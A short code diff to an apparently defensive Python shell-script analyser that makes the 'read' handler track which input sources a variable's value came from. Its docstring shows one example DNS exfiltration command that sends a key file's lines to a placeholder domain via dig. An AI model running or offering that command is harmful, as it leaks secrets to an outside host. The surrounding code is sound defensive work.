@@ -47,10 +47,12 @@ def h_echo(ctx: Ctx, args: list[str], name: str) -> None:
 
 
 def h_read(ctx: Ctx, args: list[str], name: str) -> None:
-    """read/mapfile VAR: the variables get unknown values."""
+    """read/mapfile VAR: the variables get unknown values, read from stdin (`cat key | while
+    read l; do dig $l.x.example; done` sends the key)."""
     _, pos = parse_opts(args, *OPTIONS["read"])
+    came_from = ctx.stdin.resources + tuple(ctx.text(t) for op, t in ctx.redirs if op == "<")
     for p in pos:
-        ctx.assign(ctx.text(p), None)
+        ctx.assign(ctx.text(p), None, came_from)
 
 
 def h_crontab(ctx: Ctx, args: list[str], name: str) -> None:
